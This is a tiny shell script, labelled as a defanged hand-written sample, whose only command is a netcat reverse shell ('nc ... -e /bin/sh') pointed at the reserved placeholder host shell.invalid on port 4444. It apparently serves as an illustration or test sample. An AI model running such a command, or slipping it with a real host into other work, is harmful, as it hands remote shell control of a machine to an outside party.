#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
nc shell.invalid 4444 -e /bin/sh
